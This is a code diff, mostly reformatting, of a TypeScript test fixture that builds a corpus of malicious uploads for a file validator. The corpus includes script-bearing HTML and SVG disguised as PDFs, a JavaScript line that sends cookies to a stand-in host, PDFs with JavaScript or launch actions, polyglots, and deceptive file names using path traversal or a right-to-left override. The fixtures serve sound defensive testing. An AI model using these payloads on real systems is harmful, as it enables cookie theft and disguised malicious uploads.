@@ -9,7 +9,12 @@ import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 export async function cleanPdf(text = 'Arrest warrant — Tribunal judiciaire de Lyon'): Promise<Buffer> {
   const doc = await PDFDocument.create();
   const page = doc.addPage([300, 200]);
-  page.drawText(text.replace('—', '-'), { x: 20, y: 100, size: 10, font: await doc.embedFont(StandardFonts.Helvetica) });
+  page.drawText(text.replace('—', '-'), {
+    x: 20,
+    y: 100,
+    size: 10,
+    font: await doc.embedFont(StandardFonts.Helvetica),
+  });
   return Buffer.from(await doc.save({ useObjectStreams: true }));
 }
 
@@ -180,26 +185,158 @@ export interface BadFile {
 /** The corpus of bad files (issue: "Bad input"). `overLimit` is a file one byte over the given limit. */
 export function badFileCorpus(limit: number): BadFile[] {
   return [
-    { label: 'HTML named .pdf', fileName: 'warrant.pdf', bytes: () => text('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), reason: 'text_markup', status: 422 },
-    { label: 'SVG named .pdf', fileName: 'warrant.pdf', bytes: () => text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), reason: 'text_markup', status: 422 },
-    { label: 'SVG with XML declaration named .pdf', fileName: 'warrant.pdf', bytes: () => text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>'), reason: 'type_not_allowed', status: 422 },
-    { label: 'JavaScript named .pdf', fileName: 'warrant.pdf', bytes: () => text('const x = 1;\nfunction go() { document.location = "https://example.invalid/?" + document.cookie; }\ngo();\n'), reason: 'text_script', status: 422 },
+    {
+      label: 'HTML named .pdf',
+      fileName: 'warrant.pdf',
+      bytes: () => text('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
+      reason: 'text_markup',
+      status: 422,
+    },
+    {
+      label: 'SVG named .pdf',
+      fileName: 'warrant.pdf',
+      bytes: () =>
+        text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
+      reason: 'text_markup',
+      status: 422,
+    },
+    {
+      label: 'SVG with XML declaration named .pdf',
+      fileName: 'warrant.pdf',
+      bytes: () =>
+        text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>'),
+      reason: 'type_not_allowed',
+      status: 422,
+    },
+    {
+      label: 'JavaScript named .pdf',
+      fileName: 'warrant.pdf',
+      bytes: () =>
+        text(
+          'const x = 1;\nfunction go() { document.location = "https://example.invalid/?" + document.cookie; }\ngo();\n',
+        ),
+      reason: 'text_script',
+      status: 422,
+    },
     { label: 'executable', fileName: 'reader.exe', bytes: exe, reason: 'type_not_allowed', status: 422 },
-    { label: 'executable named .pdf', fileName: 'warrant.pdf', bytes: exe, reason: 'type_not_allowed', status: 422 },
-    { label: 'PDF with JavaScript (in a compressed object stream)', fileName: 'warrant.pdf', bytes: pdfWithJavaScript, reason: 'pdf_javascript', status: 422 },
-    { label: 'PDF with JavaScript, names hex-escaped', fileName: 'warrant.pdf', bytes: pdfWithEscapedJavaScript, reason: 'pdf_javascript', status: 422 },
-    { label: 'PDF with a launch action', fileName: 'warrant.pdf', bytes: pdfWithLaunch, reason: 'pdf_launch', status: 422 },
-    { label: 'PDF with a URI action', fileName: 'warrant.pdf', bytes: pdfWithUri, reason: 'pdf_uri', status: 422 },
-    { label: 'PDF with an embedded file', fileName: 'warrant.pdf', bytes: pdfWithEmbeddedFile, reason: 'pdf_embedded_file', status: 422 },
-    { label: 'polyglot: PNG with a ZIP archive appended', fileName: 'photo.png', bytes: () => Buffer.concat([png(), zip([['run.js', 'alert(1)']])]), reason: 'polyglot', status: 422 },
-    { label: 'polyglot: PDF that is also HTML', fileName: 'warrant.pdf', bytes: async () => { const p = await cleanPdf(); return Buffer.concat([p.subarray(0, 9), Buffer.from('%<html><script>alert(1)</script></html>\n'), p.subarray(9)]); }, reason: 'polyglot', status: 422 },
-    { label: 'polyglot: JPEG carrying a PDF', fileName: 'photo.jpg', bytes: async () => Buffer.concat([jpeg().subarray(0, -2), await cleanPdf(), Buffer.from([0xff, 0xd9])]), reason: 'polyglot', status: 422 },
-    { label: 'DOCX with macros', fileName: 'letter.docx', bytes: () => docx([['word/vbaProject.bin', 'macro']]), reason: 'docx_macros', status: 422 },
-    { label: 'one byte over the limit', fileName: 'notes.txt', bytes: () => Buffer.alloc(limit + 1, 'a'), reason: 'too_large', status: 413 },
-    { label: 'empty file', fileName: 'empty.pdf', bytes: () => Buffer.alloc(0), reason: 'empty', status: 422 },
-    { label: 'name with path traversal', fileName: '../../etc/passwd.txt', bytes: () => text(), reason: 'doc_name_path', status: 422 },
-    { label: 'name with a Windows path', fileName: '..\\..\\boot.txt', bytes: () => text(), reason: 'doc_name_path', status: 422 },
-    { label: 'name with control characters', fileName: 'notes\u0007\u001b[31m.txt', bytes: () => text(), reason: 'doc_name_control', status: 422 },
-    { label: 'name with a right-to-left override', fileName: 'warrant\u202Efdp.exe', bytes: () => text(), reason: 'doc_name_bidi', status: 422 },
+    {
+      label: 'executable named .pdf',
+      fileName: 'warrant.pdf',
+      bytes: exe,
+      reason: 'type_not_allowed',
+      status: 422,
+    },
+    {
+      label: 'PDF with JavaScript (in a compressed object stream)',
+      fileName: 'warrant.pdf',
+      bytes: pdfWithJavaScript,
+      reason: 'pdf_javascript',
+      status: 422,
+    },
+    {
+      label: 'PDF with JavaScript, names hex-escaped',
+      fileName: 'warrant.pdf',
+      bytes: pdfWithEscapedJavaScript,
+      reason: 'pdf_javascript',
+      status: 422,
+    },
+    {
+      label: 'PDF with a launch action',
+      fileName: 'warrant.pdf',
+      bytes: pdfWithLaunch,
+      reason: 'pdf_launch',
+      status: 422,
+    },
+    {
+      label: 'PDF with a URI action',
+      fileName: 'warrant.pdf',
+      bytes: pdfWithUri,
+      reason: 'pdf_uri',
+      status: 422,
+    },
+    {
+      label: 'PDF with an embedded file',
+      fileName: 'warrant.pdf',
+      bytes: pdfWithEmbeddedFile,
+      reason: 'pdf_embedded_file',
+      status: 422,
+    },
+    {
+      label: 'polyglot: PNG with a ZIP archive appended',
+      fileName: 'photo.png',
+      bytes: () => Buffer.concat([png(), zip([['run.js', 'alert(1)']])]),
+      reason: 'polyglot',
+      status: 422,
+    },
+    {
+      label: 'polyglot: PDF that is also HTML',
+      fileName: 'warrant.pdf',
+      bytes: async () => {
+        const p = await cleanPdf();
+        return Buffer.concat([
+          p.subarray(0, 9),
+          Buffer.from('%<html><script>alert(1)</script></html>\n'),
+          p.subarray(9),
+        ]);
+      },
+      reason: 'polyglot',
+      status: 422,
+    },
+    {
+      label: 'polyglot: JPEG carrying a PDF',
+      fileName: 'photo.jpg',
+      bytes: async () => Buffer.concat([jpeg().subarray(0, -2), await cleanPdf(), Buffer.from([0xff, 0xd9])]),
+      reason: 'polyglot',
+      status: 422,
+    },
+    {
+      label: 'DOCX with macros',
+      fileName: 'letter.docx',
+      bytes: () => docx([['word/vbaProject.bin', 'macro']]),
+      reason: 'docx_macros',
+      status: 422,
+    },
+    {
+      label: 'one byte over the limit',
+      fileName: 'notes.txt',
+      bytes: () => Buffer.alloc(limit + 1, 'a'),
+      reason: 'too_large',
+      status: 413,
+    },
+    {
+      label: 'empty file',
+      fileName: 'empty.pdf',
+      bytes: () => Buffer.alloc(0),
+      reason: 'empty',
+      status: 422,
+    },
+    {
+      label: 'name with path traversal',
+      fileName: '../../etc/passwd.txt',
+      bytes: () => text(),
+      reason: 'doc_name_path',
+      status: 422,
+    },
+    {
+      label: 'name with a Windows path',
+      fileName: '..\\..\\boot.txt',
+      bytes: () => text(),
+      reason: 'doc_name_path',
+      status: 422,
+    },
+    {
+      label: 'name with control characters',
+      fileName: 'notes\u0007\u001b[31m.txt',
+      bytes: () => text(),
+      reason: 'doc_name_control',
+      status: 422,
+    },
+    {
+      label: 'name with a right-to-left override',
+      fileName: 'warrant\u202Efdp.exe',
+      bytes: () => text(),
+      reason: 'doc_name_bidi',
+      status: 422,
+    },
   ];
 }
